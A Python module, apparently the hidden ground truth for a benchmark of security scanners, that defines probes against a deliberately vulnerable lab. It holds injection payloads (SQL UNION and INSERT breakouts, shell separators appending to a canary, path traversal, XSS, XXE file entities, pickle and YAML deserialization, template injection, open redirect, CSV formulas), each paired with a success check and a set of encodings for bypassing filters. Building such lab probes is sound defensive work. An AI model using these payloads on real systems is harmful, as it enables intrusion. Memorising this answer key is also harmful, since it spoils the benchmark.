"""What proves a sink of the lab: harmful values, and what is seen where one of them got through.

Written with the lab's code open, for the labels alone; no scanner that they judge may read it.
"""

import base64
import hashlib
import json
import random
import re
import sqlite3
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import urlsplit

MARKER = "LAB-MARKER-5d1c"
_AWAY = "away.invalid"


@dataclass(frozen=True, slots=True)
class Ground:
    """Where a proof looks: a service, the scratch folder, a listener on loopback, the paths it was asked."""

    service: str
    scratch: Path
    port: int
    asked: set[str]

    def marked(self, token: str) -> bool:
        """Whether the canary file has the token."""
        canary = self.scratch / "canary"
        return canary.exists() and token in canary.read_text().split()

    def logged(self, line: str) -> bool:
        """Whether the service's log has this line."""
        return line in (self.scratch / self.service / "service.log").read_text().splitlines()

    def owned(self, owner: str) -> bool:
        """Whether the service's table of visits has a row of this owner."""
        link = sqlite3.connect(self.scratch / self.service / "shop.db")
        try:
            return bool(link.execute("SELECT 1 FROM visits WHERE owner = ?", (owner,)).fetchone())
        finally:
            link.close()


@dataclass(frozen=True, slots=True)
class Answer:
    """What came back: status, kind, text and the Location header."""

    status: int
    kind: str
    text: str
    location: str

    def told(self, name: str) -> object:
        """One member of an answer in JSON, None if it is none."""
        try:
            return json.loads(self.text)[name]
        except (ValueError, KeyError, TypeError, IndexError):
            return None


@dataclass(frozen=True, slots=True)
class Probe:
    """`values(token, ground)` to send, and `seen(answer, token, ground)` where one of them did harm."""

    values: Callable[[str, Ground], tuple[str, ...]]
    seen: Callable[[Answer, str, Ground], bool]


def _pickled(token: str, ground: Ground) -> tuple[str, ...]:
    """A pickle that calls the lab's own harmless `note`."""
    stream = f"c{ground.service}.parts\nnote\n(S'{token}'\ntR."
    return (base64.urlsafe_b64encode(stream.encode()).decode().rstrip("="),)


def _entities(token: str, ground: Ground) -> tuple[str, ...]:
    places = (f"file://{ground.scratch}/vault/marker.txt", f"http://127.0.0.1:{ground.port}/{token}")
    return tuple(f'<!DOCTYPE a [<!ENTITY e SYSTEM "{place}">]><a>&e;</a>' for place in places)


def _has_marker(answer: Answer, token: str, ground: Ground) -> bool:
    return MARKER in answer.text


def _is_marked(answer: Answer, token: str, ground: Ground) -> bool:
    return ground.marked(token)


_COMMANDS = tuple(
    f"x{sep} echo {what}" for sep in (";", " &&") for what in ("la''b{t}", "{t} >> $LAB_CANARY")
)
_SHELL = Probe(
    lambda t, g: tuple(one.replace("{t}", t) for one in _COMMANDS),
    lambda a, t, g: f"lab{t}" in a.text.split() or g.marked(t),
)
_MARKUP = Probe(
    lambda t, g: (f"<svg onload=x{t}>",),
    lambda a, t, g: a.kind == "text/html" and f"<svg onload=x{t}>" in a.text,
)
_PAGES = ("../../{place}", "....//....//{place}")

PROBES: Mapping[str, Probe] = {
    "sqlite_select": Probe(lambda t, g: ("x' UNION SELECT code, 1 FROM vault --",), _has_marker),
    "sqlite_order": Probe(
        lambda t, g: (f"(CASE WHEN (SELECT code FROM vault) = '{MARKER}' THEN price ELSE name END)",),
        lambda a, t, g: a.text.startswith('[["table"'),
    ),
    "sqlite_insert": Probe(lambda t, g: (f"x', '{t}') --",), lambda a, t, g: g.owned(t)),
    "shell_run": _SHELL,
    "os_popen": _SHELL,
    "path_read": Probe(
        lambda t, g: tuple(one.format(place="vault/marker.txt") for one in _PAGES), _has_marker
    ),
    "path_write": Probe(
        lambda t, g: tuple(one.format(place=f"made/{t}") for one in _PAGES),
        lambda a, t, g: (g.scratch / "made" / t).exists(),
    ),
    "html_text": _MARKUP,
    "html_field": Probe(
        lambda t, g: (f'"onfocus="x{t}',),
        lambda a, t, g: a.kind == "text/html" and f'value=""onfocus="x{t}"' in a.text,
    ),
    "jinja_page": _MARKUP,
    "eval_sum": Probe(
        lambda t, g: (f"'lab' * 2 + '{t}'", f"note('{t}')"),
        lambda a, t, g: f"lablab{t}" in a.text or g.marked(t),
    ),
    "exec_rule": Probe(
        lambda t, g: (f"result = 'lab' * 2 + '{t}'", f"note('{t}')"),
        lambda a, t, g: f"lablab{t}" in a.text or g.marked(t),
    ),
    "pickle_loads": Probe(_pickled, _is_marked),
    "yaml_load": Probe(lambda t, g: (f'!!python/object/apply:{g.service}.parts.note ["{t}"]',), _is_marked),
    "url_open": Probe(
        lambda t, g: (f"http://127.0.0.1:{g.port}/{t}?partner.invalid",), lambda a, t, g: t in g.asked
    ),
    "redirect_to": Probe(
        lambda t, g: (f"https://{_AWAY}/{t}", f"//{_AWAY}/{t}"),
        lambda a, t, g: urlsplit(a.location).netloc == _AWAY,
    ),
    "sax_parse": Probe(_entities, lambda a, t, g: MARKER in a.text or t in g.asked),
    "jinja_source": Probe(lambda t, g: (f"{{{{ 191 * 7 }}}}{t}",), lambda a, t, g: f"1337{t}" in a.text),
    "format_text": Probe(lambda t, g: (f"{{item.note}}{t}",), lambda a, t, g: MARKER + t in a.text),
    "etree_find": Probe(lambda t, g: ("ann']/../entry[kind='closed",), _has_marker),
    "weak_hash": Probe(
        lambda t, g: (t,), lambda a, t, g: a.told("stored") == hashlib.md5(t.encode()).hexdigest()
    ),
    "random_token": Probe(
        lambda t, g: (t,), lambda a, t, g: a.told("reset") == f"{random.Random(t).getrandbits(64):016x}"
    ),
    "log_line": Probe(lambda t, g: (f"x\nINFO paid {t}",), lambda a, t, g: g.logged(f"INFO paid {t}")),
    "csv_cell": Probe(
        lambda t, g: (f"=1+{t}",), lambda a, t, g: a.kind == "text/csv" and a.text.startswith(f"=1+{t}")
    ),
    "set_attribute": Probe(lambda t, g: ("staff",), lambda a, t, g: a.told("staff") == "on"),
    "call_by_name": Probe(lambda t, g: ("close_day",), _has_marker),
    "record_read": Probe(lambda t, g: ("r2",), _has_marker),
}

#: How a value must be written to pass a flow; every case is tried with all of them, its own first.
WRITTEN: Mapping[str, Callable[[str], str]] = {
    "direct": lambda text: text,
    "swapped_case": str.swapcase,
    "base64": lambda text: base64.urlsafe_b64encode(text.encode()).decode().rstrip("="),
    "percent_decoded": lambda text: re.sub(r"\W", lambda found: f"%{ord(found[0]):02X}", text),
    "prefix_gate": lambda text: f"ref-{text}",
    "checked_gate": lambda text: f"{text}.{len(text)}",
    "partition": lambda text: f"1:{text}",
}
